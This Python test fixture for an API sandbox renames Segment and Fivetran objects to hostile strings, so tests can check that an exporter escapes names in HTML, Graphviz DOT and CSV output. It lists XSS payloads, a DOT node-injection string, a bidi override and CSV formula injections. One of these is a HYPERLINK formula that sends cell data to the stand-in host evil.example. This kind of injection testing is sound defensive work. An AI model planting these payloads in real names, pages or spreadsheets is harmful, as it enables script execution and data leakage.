"""Hostile names: a few objects of both APIs renamed to what a careless exporter would run.

Any member of a workspace can name a user, a source or a connection, so a name is attacker
text: markup for the HTML page, quotes, backslashes and braces for the Graphviz DOT the diagram
is drawn from, spreadsheet formulas for the CSV files, a bidi override, a 10,000-character name.
``HostileNames(sandbox)`` renames chosen objects in every response that carries them (lists,
details, children alike: the rename goes by object id), while ``on`` is true, so a test can run
the pipeline with plain names and then with hostile ones. Nothing else the sandbox serves
changes, and the generated objects themselves are never modified.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

from taps_sandbox.base import SEGMENT_TOKEN, ApiResponse

if TYPE_CHECKING:
    from taps_sandbox.server import Sandbox

# Markup: must show as text on the page, never run (the page's CSP allows inline scripts).
SCRIPT = '<script>document.title="pwned-script";alert("pwned-script")</script>'
IMG = "<img src=x onerror=\"document.title='pwned-img';alert('pwned-img')\">"
SVG_BREAKOUT = '</text><script>alert("pwned-svg")</script><text>'
# Spreadsheet formulas (OWASP CSV injection): each starts with = + - @ tab or carriage return.
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"open")'
PLUS = "+1"
MINUS = "-2+3"
AT = "@SUM(A1)"
TAB = "\tTab-led name"
CR = "\rCR-led name"
# DOT and SVG: quotes, backslashes, braces and angle brackets, and a try at a new DOT node.
QUOTES = 'Quote " backslash \\ escaped quote \\" end'
BRACES = "Braces { } <angle> & ampersand"
DOT_BREAKOUT = '"]; injected [label="INJECTED-NODE"]; n0 -> injected; x [label="'
TRAILING_BACKSLASH = "ends with a backslash \\"
# Display: a right-to-left override, and a name far longer than any column.
BIDI = "Invoice \u202egpj.exe"
LONG = "Long name " + "0123456789" * 999
assert len(LONG) == 10_000

HOSTILE_NAMES: tuple[str, ...] = (
    SCRIPT,
    IMG,
    SVG_BREAKOUT,
    HYPERLINK,
    PLUS,
    MINUS,
    AT,
    TAB,
    CR,
    QUOTES,
    BRACES,
    DOT_BREAKOUT,
    TRAILING_BACKSLASH,
    BIDI,
    LONG,
)
FORMULA_NAMES: tuple[str, ...] = (HYPERLINK, PLUS, MINUS, AT, TAB, CR)

# (api, collection, index in the generated collection, field, name). Segment: workspace 1 only
# (workspace 2 stays the control). Fivetran destinations are named by their group.
RENAMES: tuple[tuple[str, str, int, str, str], ...] = (
    ("segment", "users", 0, "name", SCRIPT),
    ("segment", "users", 1, "name", IMG),
    ("segment", "users", 2, "name", HYPERLINK),
    ("segment", "users", 3, "name", PLUS),
    ("segment", "users", 5, "name", MINUS),
    ("segment", "users", 6, "name", AT),
    ("segment", "users", 7, "name", BIDI),
    ("segment", "users", 8, "name", LONG),
    ("segment", "sources", 0, "name", DOT_BREAKOUT),
    ("segment", "sources", 1, "name", BRACES),
    ("segment", "sources", 2, "name", TRAILING_BACKSLASH),
    ("segment", "sources", 3, "name", CR),
    ("segment", "destinations", 0, "name", QUOTES),
    ("segment", "destinations", 1, "name", SVG_BREAKOUT),
    ("segment", "destinations", 2, "name", HYPERLINK),
    ("segment", "destinations", 3, "name", LONG),
    ("segment", "destinations", 4, "name", TAB),
    ("segment", "user_groups", 0, "name", IMG),
    ("segment", "user_groups", 1, "name", TAB),
    ("fivetran", "users", 0, "given_name", TAB),
    ("fivetran", "users", 1, "given_name", CR),
    ("fivetran", "users", 2, "given_name", QUOTES),
    ("fivetran", "users", 3, "given_name", AT),
    ("fivetran", "users", 4, "given_name", SCRIPT),
    ("fivetran", "groups", 0, "name", IMG),
    ("fivetran", "groups", 1, "name", MINUS),
    ("fivetran", "connections", 0, "schema", PLUS),
    ("fivetran", "connections", 1, "schema", BIDI),
)


@dataclass(frozen=True)
class Renamed:
    """One object served under a hostile name."""

    api: str
    collection: str
    object_id: str
    field: str
    name: str


Handle = Callable[[str, dict[str, list[str]], dict[str, str]], ApiResponse]


class HostileNames:
    """Serve ``RENAMES`` from ``sandbox``'s APIs while ``on`` is true (off to begin with)."""

    def __init__(self, sandbox: Sandbox, *, on: bool = False) -> None:
        self.on = on
        self.renamed = [
            Renamed(api, coll, self._object_id(sandbox, api, coll, i), fld, name)
            for api, coll, i, fld, name in RENAMES
        ]
        self._by_id: dict[str, dict[str, dict[str, str]]] = {}
        for r in self.renamed:
            self._by_id.setdefault(r.api, {}).setdefault(r.object_id, {})[r.field] = r.name
        for name, api in sandbox.apis.items():
            if name in self._by_id:
                # The server calls ``api.handle``; an instance attribute takes its place.
                setattr(api, "handle", self._wrap(api.handle, self._by_id[name]))  # noqa: B010

    @staticmethod
    def _object_id(sandbox: Sandbox, api: str, collection: str, i: int) -> str:
        """The id the API serves object ``i`` of ``collection`` under."""
        emulator: Any = sandbox.apis[api]
        if api == "segment":
            return str(emulator.workspaces[SEGMENT_TOKEN].oid(collection, i))
        return str(emulator.expected_ids(collection)[i])

    def _wrap(self, handle: Handle, by_id: dict[str, dict[str, str]]) -> Handle:
        """``handle`` with the renames applied to its JSON body while ``on``."""

        def hostile_handle(
            path: str, query: dict[str, list[str]], headers: dict[str, str]
        ) -> ApiResponse:
            response = handle(path, query, headers)
            if not self.on or response.status != 200 or isinstance(response.body, bytes):
                return response
            return ApiResponse(
                response.status, _renamed(response.body, by_id), dict(response.headers)
            )

        return hostile_handle

    def served_as(self, api: str, object_id: str, field: str) -> str | None:
        """The hostile name ``object_id`` carries in ``field``, if any."""
        return self._by_id.get(api, {}).get(object_id, {}).get(field)


def _renamed(node: Any, by_id: dict[str, dict[str, str]]) -> Any:
    """A copy of ``node`` in which every object whose id is renamed gets its new fields (only
    the fields it already has: a Fivetran destination shares its group's id but has no name)."""
    if isinstance(node, list):
        return [_renamed(v, by_id) for v in node]
    if not isinstance(node, dict):
        return node
    out = {k: _renamed(v, by_id) for k, v in node.items()}
    ident = node.get("id")
    fields = by_id.get(ident) if isinstance(ident, str) else None
    if fields:
        out.update({k: v for k, v in fields.items() if k in out})
    return out
